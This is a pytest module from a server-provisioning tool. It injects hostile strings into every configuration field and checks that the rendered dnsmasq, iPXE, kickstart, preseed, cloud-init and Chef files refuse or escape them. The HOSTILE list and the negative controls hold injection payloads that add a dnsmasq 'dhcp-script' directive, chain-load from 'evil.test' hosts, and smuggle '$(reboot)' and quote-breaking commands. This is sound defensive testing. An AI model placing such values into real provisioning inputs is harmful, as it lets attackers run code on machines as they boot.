"""Hostile values in every string of the answers, against every file rendered from them.

Each string of the answers model (found by walking the model, so a new field is covered the
day it is added) and each string or list attribute of the shipped barclamps gets each
hostile value: line breaks that would start a dnsmasq directive, an iPXE command or a
preseed line, quotes and ``$(...)`` that would leave a shell word, iPXE's ``${...}``,
spaces where one word is expected. Either validation refuses the answers, or every file
renders with the value escaped, checked by parsing it as its consumer does:

- dnsmasq: the same directives as a clean render, and ``dnsmasq --test`` accepts it;
- iPXE and pxelinux scripts: the same commands with the same number of arguments;
- kickstart: ``ksvalidator`` accepts it, the same commands, ``%post`` lines the same words;
- preseed: ``debconf-set-selections --checkonly`` accepts it, the same questions, the
  same words in late_command;
- user-data and meta-data: YAML of the same shape, late-commands the same words;
- Chef objects (environment, data bags, roles, nodes): the same shape.
"""

from __future__ import annotations

import copy
import functools
import hashlib
import json
import shlex
from collections.abc import Iterator
from pathlib import Path
from typing import Annotated, Any, Literal, Union, get_args, get_origin

import pytest
import yaml
from pydantic import BaseModel

from tests.unit.test_install_templates import _debconf, _ksvalidate, _selections
from wizard.answers import Answers, from_document
from wizard.base.problems import AnswersError, Loc
from wizard.base.secrets import Secret
from wizard.base.yamlfile import CoreSchemaLoader, Document
from wizard.catalog import default_catalog
from wizard.chef import objects as chef_objects
from wizard.provisioning.dnsmasq import Dnsmasq, find_dnsmasq
from wizard.provisioning.render import boot_script, dnsmasq_config, install_files, reservations
from wizard.provisioning.site import ProvisionerSite

EXAMPLES = Path(__file__).parents[2] / "answers" / "examples"
KEYS = ["ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIDTnhKF4dXG8xSatgZHn28pPMKhbLeZn60JyXL2ZKZke "
        "admin@lab",
        "ecdsa-sha2-nistp256 AAAAE2VjZHNhLXNoYTItbmlzdHAyNTYAAAAIbmlzdHAyNTYAAABBBNi9tWb9zDCWWbI"
        "/fi+laNA6AR60LzX1/goTaQ8sCfsyaLUJtZ7ideAMAFfJt5B9RSiG75b0RPU+4tfB7//AWb8= ops@laptop"]
ROOT_HASH = "$6$crowbarsalt$Zx8bq5V0Jc2M9c1nTQb8p1X3tWkqf7o8cQ4bqkVhYJ0sY1b6uKzqjM0jM1wK6m4v0"
ENV = {"CROWBAR_BMC_PASSWORD": "bmc-pass", "CROWBAR_KEYSTONE_PASSWORD": "ks-pass",
       "CROWBAR_TEST_SECRET": "s3cret", "CROWBAR_ROOT_HASH": ROOT_HASH}
OS_IDS = ["ubuntu-24.04", "debian-12", "rocky-9"]
"""One OS of each installer family (user-data, preseed, kickstart)."""

HOSTILE = [
    "\ndhcp-script=/tmp/pwn",          # a dnsmasq directive of its own (runs as root)
    "\r\nchain http://evil.test/x",    # an iPXE command
    "\ttimezone Etc/UTC",
    "\u2028d-i preseed/late_command string reboot",
    "\x85shell", "\x00",
    " chain http://evil.test/x",       # words where one word is expected
    " || shell",
    "'; reboot; '", '"; reboot; "',    # out of a quoted shell word
    "$(reboot)", "`reboot`", "${net0/ip}",
    " #!ipxe", "\\",
]
"""Each is tried alone and after the field's valid value."""

SAMPLE_ITEMS = {
    None: "item", "ipv4": "10.0.0.53", "cidr": "10.0.0.0/8", "host": "ntp.example.com",
    "host_port": "logs.example.com:514", "dns_record": "sw1=192.168.124.241",
    "ssh_public_key": KEYS[1], "url": "http://repo.example.com/cm", "console": "ttyS1,115200",
    "kernel_params": "quiet", "path": "/srv/data", "uuid": "7d3a9c2e-3b6f-4c55-9e57-1b2d8e0f4a11",
}
"""A valid value per attribute format, for attributes whose default is empty."""


# --- the documents ---------------------------------------------------------------------------


def _example(name: str) -> dict[str, Any]:
    return yaml.load((EXAMPLES / f"{name}.yaml").read_text(), Loader=CoreSchemaLoader)


def _full(name: str) -> dict[str, Any]:
    """An example with every string or list attribute of its barclamps set and, for the lab
    example, every optional string of the model, so that each has a value to turn hostile."""
    data = _example(name)
    if name == "lab-small":
        data["site"]["dns_forwarders"] = ["192.168.124.1"]
        data["networks"]["admin"]["netmask"] = "255.255.255.0"
        data["networks"]["admin"]["broadcast"] = "192.168.124.255"
        data["provisioning"] |= {
            "kernel_url": "http://192.168.124.10:8091/k/linux",
            "initrd_url": "http://192.168.124.10:8091/k/initrd", "ssh_authorized_keys": KEYS[:1]}
        data["chef"] |= {"organization": "lab", "export_path": "/srv/chef-repo",
                         "cookbooks_path": "/srv/berks-vendor"}
        data["nodes"][0]["addresses"] = {"admin": "192.168.124.90"}
        data["nodes"][0]["hardware"]["nics"] = [
            {"mac": mac, "speed_mbps": 1000, "name": f"eno{i + 1}"}
            for i, mac in enumerate(data["nodes"][0]["macs"])]
    catalog = default_catalog()
    for barclamp, proposal in data["barclamps"].items():
        proposal.setdefault("proposal", "default")
        attributes = proposal.setdefault("attributes", {})
        for key, attr in catalog[barclamp].attributes.items():
            if key in attributes or attr.enum:
                continue
            if attr.type == "secret":
                attributes[key] = "env:CROWBAR_TEST_SECRET"
            elif attr.type == "list":
                attributes[key] = list(attr.default) or [SAMPLE_ITEMS[attr.format]]
            elif attr.type == "string":
                attributes[key] = attr.default or SAMPLE_ITEMS[attr.format]
    if "provisioner" in data["barclamps"]:
        data["barclamps"]["provisioner"]["attributes"] |= {
            "root_password_hash": "env:CROWBAR_ROOT_HASH", "access_keys": KEYS[1:]}
    if "dns" in data["barclamps"]:
        data["barclamps"]["dns"]["attributes"]["dnsmasq_dns"] = True
    return data


def _validate(data: dict[str, Any]) -> Answers:
    """What ``load`` does after reading the file (positions aside)."""
    return from_document(Document(data, "", "answers.yaml"))


def _at(data: Any, loc: Loc) -> Any:
    for part in loc:
        data = data[part]
    return data


def _set(data: dict[str, Any], loc: Loc, value: Any) -> dict[str, Any]:
    data = copy.deepcopy(data)
    _at(data, loc[:-1])[loc[-1]] = value
    return data


def _rename_key(data: dict[str, Any], loc: Loc, suffix: str) -> dict[str, Any]:
    data = copy.deepcopy(data)
    mapping = _at(data, loc)
    key = next(iter(mapping))
    mapping[key + suffix] = mapping.pop(key)
    return data


# --- every string of the model -----------------------------------------------------------------


def _strip(annotation: Any) -> Any:
    while get_origin(annotation) is Annotated:
        annotation = get_args(annotation)[0]
    return annotation


def _holds_strings(annotation: Any) -> bool:
    annotation = _strip(annotation)
    if annotation in (str, Secret) or annotation is Any:
        return True
    if isinstance(annotation, type) and issubclass(annotation, BaseModel):
        return any(_holds_strings(f.annotation) for f in annotation.model_fields.values())
    if get_origin(annotation) is Literal:
        return False
    return any(_holds_strings(arg) for arg in get_args(annotation))


def string_slots(annotation: Any, data: Any, loc: Loc, missing: list[Loc],
                 kind: Loc = ()) -> Iterator[tuple[Loc, Loc]]:
    """Every place in ``data`` where the model (``annotation``) takes a string, with its
    kind (the place with list indexes and mapping keys as ``*``); ``loc + ("[key]",)`` for
    every mapping whose keys are free strings. Kinds of place the model has but ``data``
    leaves empty go to ``missing``. Free-form values (``Any``: barclamp attributes) are left to
    :func:`attribute_slots`."""
    annotation = _strip(annotation)
    origin = get_origin(annotation)
    if annotation is Any or origin is Literal or not _holds_strings(annotation):
        return
    if data is None:
        missing.append(kind)
    elif annotation in (str, Secret):
        yield loc, kind
        if annotation is Secret:
            SECRETS.add(loc)
    elif isinstance(annotation, type) and issubclass(annotation, BaseModel):
        for name, field in annotation.model_fields.items():
            if name in data:
                yield from string_slots(field.annotation, data[name], (*loc, name), missing,
                                        (*kind, name))
            elif _holds_strings(field.annotation):
                missing.append((*kind, name))
    elif origin in (Union, type(int | None)):
        arms = [a for a in get_args(annotation) if a is not type(None)]
        shape = list if isinstance(data, list) else dict if isinstance(data, dict) else str
        arm = next((a for a in arms if (get_origin(_strip(a)) or _strip(a)) is shape
                    or (shape is str and _strip(a) in (str, Secret))), arms[0])
        yield from string_slots(arm, data, loc, missing, kind)
    elif origin is list:
        if not data:
            missing.append((*kind, "*"))
        for index, item in enumerate(data):
            yield from string_slots(get_args(annotation)[0], item, (*loc, index), missing,
                                    (*kind, "*"))
    elif origin is dict:
        key_type, value_type = (_strip(a) for a in get_args(annotation))
        free_keys = get_origin(key_type) is not Literal
        if not data:
            missing.append((*kind, "[key]" if free_keys else "*"))
        elif free_keys:
            yield (*loc, "[key]"), (*kind, "[key]")
        for key, item in data.items():
            yield from string_slots(value_type, item, (*loc, key), missing, (*kind, "*"))


def attribute_slots(data: dict[str, Any]) -> Iterator[Loc]:
    """Every string, secret and list-item attribute value of the selected barclamps."""
    for barclamp, proposal in data["barclamps"].items():
        for key, value in proposal.get("attributes", {}).items():
            at: Loc = ("barclamps", barclamp, "attributes", key)
            if isinstance(value, list) and value:
                yield (*at, 0)
            elif isinstance(value, str):
                yield at


SECRETS: set[Loc] = set()
"""Inline secrets: any text may be a password (or a PEM key, lines and all). They are never
written into the rendered files, so they may hold control characters."""


def model_slots() -> list[Loc]:
    """Every string of the answers model, in the full lab example."""
    missing: list[Loc] = []
    first: dict[Loc, Loc] = {}
    for loc, kind in string_slots(Answers, _full("lab-small"), (), missing):
        first.setdefault(kind, loc)
    unset = sorted({m for m in missing if not any(k[:len(m)] == m for k in first)}, key=str)
    assert not unset, f"give these a value in _full() so they get injected too: {unset}"
    return list(first.values())


CASES = [("lab-small", loc) for loc in model_slots()] + [
    (example, loc) for example in ("lab-small", "openstack", "hadoop")
    for loc in attribute_slots(_full(example))
    if example == "lab-small" or loc[1] in {"nova_dashboard", "hadoop", "zookeeper",
                                            "cloudera_manager"}]


def test_every_string_of_the_model_is_a_case() -> None:
    """The walk finds the model's strings: a field added to the answers model without a
    value in _full() fails here (and in slots()), so it cannot escape this test."""
    locs = {loc for _, loc in CASES}
    for expected in [("site", "timezone"), ("provisioning", "mirror"),
                     ("provisioning", "ssh_authorized_keys", 0), ("bmc", "password"),
                     ("nodes", 0, "hardware", "vendor"), ("chef", "export_path"),
                     ("barclamps", "dns", "attributes", "forwarders", 0),
                     ("barclamps", "provisioner", "attributes", "kernel_params"),
                     ("barclamps", "provisioner", "attributes", "access_keys", 0),
                     ("barclamps", "[key]"), ("networks", "public", "node_addresses", 0)]:
        assert expected in locs
    shipped = {(b, key) for b in default_catalog() for key, attr
               in default_catalog()[b].attributes.items()
               if attr.type in ("string", "list", "secret") and not attr.enum}
    covered = {loc[1:4:2] for _, loc in CASES if loc[0] == "barclamps" and len(loc) > 3}
    assert shipped - covered == {("ceph", "fsid"), ("ceph", "monitor_secret"),
                                 ("ceph", "admin_secret")}, "not selected by any example"


def test_ceph_fsid_refuses_every_hostile_value() -> None:
    fsid = default_catalog()["ceph"].attributes["fsid"]
    for hostile in HOSTILE:
        for value in (hostile, SAMPLE_ITEMS["uuid"] + hostile):
            assert fsid.check(value) is not None, value


# --- rendering and parsing -------------------------------------------------------------------


def render_all(answers: Answers) -> dict[str, Any]:
    """Every file rendered from ``answers``: dnsmasq's, the boot scripts and install files
    of the first node (the one whose strings are turned hostile) for one OS per family, and
    the Chef objects."""
    catalog = default_catalog()
    files: dict[str, Any] = {}
    for os_id in OS_IDS:
        provisioning = answers.provisioning.model_copy(update={"os": os_id})
        site = ProvisionerSite(answers.model_copy(update={"provisioning": provisioning}),
                               catalog, b"k" * 32)
        if os_id == OS_IDS[0]:
            files["dnsmasq.conf"] = dnsmasq_config(site, dnsmasq_dir=Path("/srv/pxe/dnsmasq"),
                                                   tftp_root=Path("/srv/pxe/tftp"))
            files["hosts"] = reservations(site)
            for form in ("ipxe", "pxelinux"):
                files[f"discovery.{form}"] = boot_script(site, "52:54:00:ee:00:01", None, form)
        for node in list(site.nodes.values())[:1]:
            for form in ("ipxe", "pxelinux"):
                for state in (None, "ready"):
                    files[f"{os_id}/{node.name}/{state}.{form}"] = boot_script(
                        site, node.macs[0], state, form)
            for name, text in install_files(site, node).items():
                files[f"{os_id}/{node.name}/{name}"] = text
    objects = chef_objects.render(answers, catalog)
    files["chef"] = {"environment": objects.environment, "roles": objects.roles,
                     "data_bags": objects.data_bags, "nodes": objects.nodes}
    return files


def _shape(value: Any) -> Any:
    if isinstance(value, dict):
        return {key: _shape(item) for key, item in value.items()}
    if isinstance(value, list):
        return [_shape(item) for item in value]
    return type(value).__name__


def _words(line: str) -> int | str:
    try:
        return len(shlex.split(line, comments=True))
    except ValueError:
        return "unbalanced"


def _directives(config: str) -> list[str]:
    return [line.split("=", 1)[0] for line in config.splitlines()
            if line.strip() and not line.startswith("#")]


def _ipxe(script: str) -> list[tuple[str, list[str], int]]:
    """Each line's command, command separators and settings expansions (a kernel command
    line may have any number of words)."""
    return [(line.split(" ", 1)[0], [w for w in line.split() if w in ("||", "&&", ";")],
             line.count("${")) for line in script.splitlines()]


def _kickstart(text: str) -> list[Any]:
    """Each line as its command and word count; body lines of %-sections by word count."""
    return [(line.split(" ", 1)[0] if not line.startswith(" ") else "", _words(line))
            for line in text.splitlines()]


def _preseed(text: str) -> list[Any]:
    out = []
    for line in _selections(text):
        owner, question, kind, *value = line.split(None, 3)
        words = _words(value[0]) if question == "preseed/late_command" and value else None
        out.append((owner, question, kind, words))
    return out


def _user_data(text: str) -> Any:
    data = yaml.safe_load(text)
    commands = data.get("autoinstall", {}).get("late-commands", []) if data else []
    return _shape(data), [_words(command) for command in commands]


def structure(name: str, value: Any) -> Any:
    """What the file's consumer sees as its structure, values aside."""
    if name == "chef":
        return _shape(value)
    if name == "dnsmasq.conf":
        return _directives(value)
    if name == "hosts":
        return [line.count(",") for line in value.splitlines()]
    if name.endswith(".ipxe"):
        return _ipxe(value)
    if name.endswith(".pxelinux"):
        return [line.split(None, 1)[:1] for line in value.splitlines()]
    if name.endswith("ks.cfg"):
        return _kickstart(value)
    if name.endswith("preseed.cfg"):
        return _preseed(value)
    if name.endswith(("user-data", "meta-data")):
        return _user_data(value)
    raise AssertionError(f"no parser for {name}")


_CHECKED: set[str] = set()


def validated_by_consumer(name: str, text: str, tmp_path: Path) -> None:
    """The file's own validator accepts it (each distinct text once per session)."""
    digest = hashlib.sha256(f"{name}\0{text}".encode()).hexdigest()
    if digest in _CHECKED:
        return
    if name == "dnsmasq.conf" and find_dnsmasq() is not None:
        Dnsmasq(tmp_path / "dnsmasq").check(text, "")
    elif name.endswith("ks.cfg"):
        assert _ksvalidate(tmp_path, text) == (0, []), text
    elif name.endswith("preseed.cfg"):
        path = tmp_path / "preseed.cfg"
        path.write_text(text)
        result = _debconf(path)
        assert (result.returncode, result.stderr) == (0, ""), text
    _CHECKED.add(digest)


@functools.cache
def clean(example: str) -> dict[str, Any]:
    return render_all(_validate(_full(example)))


@pytest.fixture(autouse=True)
def _secrets(monkeypatch: pytest.MonkeyPatch) -> None:
    for name, value in ENV.items():
        monkeypatch.setenv(name, value)


@pytest.mark.parametrize(("example", "loc"), CASES,
                         ids=[f"{e}:{'.'.join(map(str, loc))}" for e, loc in CASES])
def test_hostile_value_is_refused_or_escaped(example: str, loc: Loc, tmp_path: Path) -> None:
    base = _full(example)
    reference = clean(example)
    is_key = loc[-1] == "[key]"
    valid = None if is_key else _at(base, loc)
    accepted = []
    for hostile in HOSTILE:
        variants = [hostile] if is_key else [hostile, f"{valid}{hostile}"]
        for value in variants:
            data = _rename_key(base, loc[:-1], hostile) if is_key else _set(base, loc, value)
            try:
                answers = _validate(data)
            except AnswersError:
                continue
            accepted.append(value)
            rendered = render_all(answers)
            assert rendered.keys() == reference.keys()
            for name, text in rendered.items():
                if text == reference[name]:
                    continue
                assert structure(name, text) == structure(name, reference[name]), (
                    f"{value!r} at {loc} changed the structure of {name}")
                if isinstance(text, str):
                    validated_by_consumer(name.rsplit("/", 1)[-1], text, tmp_path)
    control = [v for v in accepted if any(ord(c) < 32 or 0x7F <= ord(c) <= 0x9F
                                         or c in "\u2028\u2029" for c in v)]
    assert loc in SECRETS or not control, f"accepted with a control character at {loc}: {control}"


# --- the structure checks catch what they are for (negative controls) --------------------------


def test_structure_checks_see_an_injected_line() -> None:
    """Negative control: the review's kinds of injection change what each check compares."""
    files = clean("lab-small")
    name = {suffix: next(n for n in files if n.endswith(suffix))
            for suffix in ("/user-data", "/preseed.cfg", "/ks.cfg", "/None.ipxe")}
    broken = {
        "dnsmasq.conf": ("server=", "server=8.8.8.8\ndhcp-script=/x\n#"),
        name["/None.ipxe"]: ("initrd=initrd ", "initrd=initrd\nchain http://evil/x\n"),
        name["/preseed.cfg"]: ("string lab", "string lab\nd-i preseed/early_command string x"),
        name["/ks.cfg"]: ("--utc", "--utc\n%pre\nreboot\n%end"),
        name["/user-data"]: ("  updates: security", "  updates: security\n  x: 1"),
    }
    for file, (old, new) in broken.items():
        assert old in files[file]
        kind = file.rsplit("/", 1)[-1]
        assert structure(kind, files[file].replace(old, new, 1)) != structure(kind, files[file])
    chef = json.loads(json.dumps(files["chef"]).replace('"quiet"', '["quiet"]'))
    assert structure("chef", chef) != structure("chef", files["chef"])


def test_dnsmasq_test_alone_accepts_the_review_example(tmp_path: Path) -> None:
    """Why the directive check exists: dnsmasq --test accepts a forwarder item turned into a
    dhcp-script directive (the review's example), so a syntax check alone proves nothing."""
    if find_dnsmasq() is None:
        pytest.skip("dnsmasq is not installed")
    config = clean("lab-small")["dnsmasq.conf"]
    assert "server=10.0.0.53\n" in config
    injected = config.replace("server=10.0.0.53\n", "server=10.0.0.53\ndhcp-script=/tmp/x\n")
    Dnsmasq(tmp_path / "dnsmasq").check(injected, "")
    assert _directives(injected) != _directives(config)


def test_root_password_hash_must_be_a_crypt_hash(monkeypatch: pytest.MonkeyPatch) -> None:
    """The hash is a secret (resolved at render), so validation cannot see it: what it names
    must be a one-line crypt(3) hash, or nothing renders."""
    from wizard.base.secrets import SecretError

    answers = _validate(_full("lab-small"))
    for bad in (ROOT_HASH + "\nd-i preseed/late_command string reboot", "$6$a$b'; reboot; '",
                "hunter2"):
        monkeypatch.setenv("CROWBAR_ROOT_HASH", bad)
        site = ProvisionerSite(answers, default_catalog(), b"k" * 32)
        with pytest.raises(SecretError, match="not a crypt"):
            install_files(site, next(iter(site.nodes.values())))


def test_secret_contents_reach_chef_objects_verbatim(monkeypatch: pytest.MonkeyPatch) -> None:
    """A secret's value is not validated (any bytes may be a password): in the Chef objects
    it is one JSON string, whatever it holds."""
    hostile = "pa'ss\"\nword: {x}\n- ${y} `z`"
    monkeypatch.setenv("CROWBAR_KEYSTONE_PASSWORD", hostile)
    objects = chef_objects.render(_validate(_full("lab-small")), default_catalog())
    item = objects.data_bags["crowbar"]["bc-keystone-default"]
    assert item["admin_password"] == hostile
    assert ("crowbar", "bc-keystone-default") in objects.secret_items
    assert _shape(objects.data_bags) == _shape(clean("lab-small")["chef"]["data_bags"])


def test_ksvalidator_and_debconf_run(tmp_path: Path) -> None:
    """The consumers' validators are really there (a skip would hide every check above)."""
    files = clean("lab-small")
    for name in ("ks.cfg", "preseed.cfg"):
        text = next(t for n, t in files.items() if n.endswith(name))
        validated_by_consumer(name, text + " ", tmp_path)
